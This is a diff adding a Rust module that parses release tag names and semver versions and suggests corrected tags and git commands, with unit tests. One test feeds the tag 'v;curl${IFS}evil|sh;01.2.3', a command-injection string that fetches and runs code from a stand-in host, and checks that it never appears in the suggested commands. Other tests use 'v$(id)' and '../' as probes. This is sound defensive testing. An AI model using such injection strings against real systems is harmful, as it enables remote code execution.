@@ -1,0 +1,242 @@
+//! A tag's name and the version in it. No I/O.
+
+use std::fmt;
+use std::str::FromStr;
+
+use semver::{BuildMetadata, Prerelease, Version};
+
+use super::plan::Refusal;
+use crate::action::inputs::input_value;
+use crate::action::text;
+use crate::github::is_plain;
+
+/// Longest name shown.
+const SHOWN: usize = 120;
+
+/// What stands before the version in the name of a tag.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub(super) struct Prefix(String);
+
+impl Prefix {
+    /// `v`, or `v-<component>-` where a repository holds several.
+    pub(super) fn of(component: Option<&str>) -> Self {
+        Self(component.map_or_else(|| "v".to_owned(), |component| format!("v-{component}-")))
+    }
+
+    pub(super) fn as_str(&self) -> &str {
+        &self.0
+    }
+
+    /// The name of a tag.
+    pub(super) fn tag(&self, version: &Version) -> String {
+        format!("{self}{version}")
+    }
+}
+
+impl FromStr for Prefix {
+    type Err = String;
+
+    fn from_str(text: &str) -> Result<Self, String> {
+        if text.len() <= 100 && is_plain(&format!("{text}1.0.0")) {
+            Ok(Self(text.to_owned()))
+        } else {
+            Err("must be the beginning of a tag: letters, digits and `._-+/`, at most 100".to_owned())
+        }
+    }
+}
+
+impl fmt::Display for Prefix {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(&self.0)
+    }
+}
+
+input_value!(Prefix, "the beginning of a tag: letters, digits and `._-+/`, at most 100", "v");
+
+/// A tag that names a version.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub(super) struct Release {
+    pub tag: String,
+    pub version: Version,
+}
+
+impl Release {
+    /// Reads a tag's name: the prefix, then a version exactly as <https://semver.org/spec/v2.0.0.html> has it.
+    pub(super) fn read(tag: &str, prefix: &Prefix) -> Option<Self> {
+        let version = Version::parse(tag.strip_prefix(prefix.as_str())?).ok()?;
+        Some(Self { tag: tag.to_owned(), version })
+    }
+
+    /// True for a version such as `1.3.0-rc.1`.
+    pub(super) fn is_prerelease(&self) -> bool {
+        !self.version.pre.is_empty()
+    }
+
+    /// The least full version that comes after this one.
+    pub(super) fn next(&self) -> Version {
+        let patch = self.version.patch;
+        Version {
+            patch: if self.is_prerelease() { patch } else { patch.saturating_add(1) },
+            pre: Prerelease::EMPTY,
+            build: BuildMetadata::EMPTY,
+            ..self.version
+        }
+    }
+}
+
+/// Why a tag's name is not that of a release, and what would be.
+pub(super) fn refusal(tag: &str, prefix: &Prefix) -> Refusal {
+    let shown = text::clipped(tag, SHOWN);
+    let Some(rest) = tag.strip_prefix(prefix.as_str()) else {
+        let told = Refusal::new(format!("tag {shown} does not begin with `{prefix}`"));
+        if let Some(other) = tag.strip_prefix('v').and_then(component) {
+            return told.advise(format!(
+                "it looks like a tag of the component {other}: correct the input `component`, or `prefix`"
+            ));
+        }
+        let told = match corrected(tag) {
+            Some(version) => told.advise(format!("name the tag {}", prefix.tag(&version))),
+            None => told,
+        };
+        return told
+            .advise("or correct the input `prefix`; with the input `component` tags begin with `v-<component>-`");
+    };
+    let problem = Version::parse(rest).err().map_or_else(String::new, |error| format!(": {error}"));
+    let rest_shown = text::clipped(rest, SHOWN);
+    let told = Refusal::new(format!("tag {shown} is not a version: after `{prefix}` stands \"{rest_shown}\"{problem}"));
+    if let Some(component) = component(rest) {
+        return told
+            .advise(format!("it may be a tag of the component {component}: give the input `component: {component}`"));
+    }
+    match corrected(rest) {
+        Some(version) => {
+            let name = prefix.tag(&version);
+            let told =
+                told.advise(format!("name it {name}: three numbers without leading zeros, as semver.org has them"));
+            if is_plain(tag) {
+                told.advise(format!("git tag -a {name} -m {name} {tag}^{{}}")).advise(format!("git push origin {name}"))
+            } else {
+                told
+            }
+        }
+        None => told.advise(format!(
+            "name a release {prefix}1.2.3, or {prefix}1.2.3-rc.1 for a pre-release, as semver.org has it"
+        )),
+    }
+}
+
+/// The version that was probably meant: two numbers, leading zeros, another letter before them.
+fn corrected(text: &str) -> Option<Version> {
+    let text = text.trim_start_matches(['v', 'V', '-', '_', '.']);
+    let end = text.find(['-', '+']).unwrap_or(text.len());
+    let (core, tail) = text.split_at(end);
+    let mut numbers: Vec<u64> = core
+        .split('.')
+        .map(|part| part.bytes().all(|byte| byte.is_ascii_digit()).then(|| part.parse().ok()).flatten())
+        .collect::<Option<_>>()?;
+    if numbers.len() > 3 {
+        return None;
+    }
+    numbers.resize(3, 0);
+    let numbers: Vec<String> = numbers.iter().map(u64::to_string).collect();
+    Version::parse(&format!("{}{tail}", numbers.join("."))).ok()
+}
+
+/// The component that a name such as `-telegram-1.2.3` speaks of.
+fn component(rest: &str) -> Option<&str> {
+    let rest = rest.strip_prefix('-')?;
+    let dashes = rest.match_indices('-').map(|(place, _)| place);
+    let end = dashes.into_iter().find(|place| Version::parse(&rest[place + 1..]).is_ok())?;
+    Some(&rest[..end]).filter(|name| is_plain(name) && !name.contains(['/', '+']))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_release_is_the_prefix_and_a_strict_version() {
+        let table = [
+            ("v", "v1.2.3", Some("1.2.3")),
+            ("v", "v1.2.3-rc.1+build.5", Some("1.2.3-rc.1+build.5")),
+            ("v", "v-line-9.0.0", None),
+            ("v-telegram-", "v-telegram-1.2.3", Some("1.2.3")),
+            ("v-telegram-", "v-line-9.0.0", None),
+            ("v-telegram-", "v1.2.3", None),
+            ("release/", "release/0.0.1", Some("0.0.1")),
+            ("v", "v1.2", None),
+            ("v", "v01.2.3", None),
+            ("v", "v1.2.3-01", None),
+            ("v", "v1.2.3-", None),
+            ("v", "v1.2.3.4", None),
+            ("v", "v 1.2.3", None),
+            ("v", "V1.2.3", None),
+            ("v", "v1.2.3\n", None),
+            ("v", "v99999999999999999999.0.0", None),
+        ];
+        for (prefix, tag, version) in table {
+            let read = Release::read(tag, &prefix.parse().unwrap()).map(|release| release.version.to_string());
+            assert_eq!(read.as_deref(), version, "{tag:?}");
+        }
+    }
+
+    #[test]
+    fn a_name_that_is_no_version_tells_the_right_one() {
+        let table = [
+            ("v", "v1.02.3", "invalid leading zero in minor version number", "name it v1.2.3: "),
+            ("v", "v1.2", "unexpected end of input while parsing minor version number", "name it v1.2.0: "),
+            ("v", "v2024.01.15", "invalid leading zero in minor", "name it v2024.1.15: "),
+            ("v", "vv1.2.3", "unexpected character 'v'", "name it v1.2.3: "),
+            ("v", "v1.2.3-01", "invalid leading zero in pre-release", "name a release v1.2.3, or "),
+            ("v", "v1.2.3.4", "unexpected character '.'", "name a release v1.2.3, or "),
+            ("v", "latest", "tag latest does not begin with `v`", "or correct the input `prefix`"),
+            ("v", "1.2.3", "tag 1.2.3 does not begin with `v`", "name the tag v1.2.3"),
+            (
+                "v",
+                "v-my-app-9.0.0-rc.1",
+                "after `v` stands \"-my-app-9.0.0-rc.1\"",
+                "it may be a tag of the component my-app",
+            ),
+            (
+                "v-telegram-",
+                "v-line-9.0.0",
+                "tag v-line-9.0.0 does not begin with `v-telegram-`",
+                "it looks like a tag of the component line: ",
+            ),
+            ("v", "v$(id)", "unexpected character '$'", "name a release v1.2.3, or "),
+        ];
+        for (prefix, tag, reason, advice) in table {
+            let refusal = refusal(tag, &prefix.parse().unwrap());
+            assert!(refusal.reason.contains(reason), "{tag}: {}", refusal.reason);
+            assert!(refusal.advice[0].starts_with(advice), "{tag}: {:?}", refusal.advice);
+        }
+    }
+
+    #[test]
+    fn only_plain_names_stand_in_commands() {
+        let plain = refusal("v1.02.3", &Prefix::of(None));
+        assert_eq!(plain.advice[1..], ["git tag -a v1.2.3 -m v1.2.3 v1.02.3^{}", "git push origin v1.2.3"]);
+        let hostile = refusal("v;curl${IFS}evil|sh;01.2.3", &Prefix::of(None));
+        assert!(hostile.advice.iter().all(|line| !line.contains("curl")), "{:?}", hostile.advice);
+    }
+
+    #[test]
+    fn the_next_version_is_a_full_one() {
+        for (version, next) in [("1.2.3", "1.2.4"), ("1.3.0-rc.1", "1.3.0"), ("1.2.3+a", "1.2.4")] {
+            let release = Release { tag: String::new(), version: version.parse().unwrap() };
+            assert_eq!(release.next().to_string(), next);
+        }
+    }
+
+    #[test]
+    fn a_prefix_is_the_beginning_of_a_name() {
+        for good in ["v", "v-telegram-", "release/", "release-v", "1.x/"] {
+            assert!(good.parse::<Prefix>().is_ok(), "{good}");
+        }
+        for bad in ["../", "/", "-", "v ", "v\n", "a//", "v?", "v#", "v%2f", "..", &"v".repeat(101)] {
+            assert!(bad.parse::<Prefix>().is_err(), "{bad}");
+        }
+        assert_eq!(Prefix::of(Some("telegram")).as_str(), "v-telegram-");
+        assert_eq!(Prefix::of(None).as_str(), "v");
+    }
+}
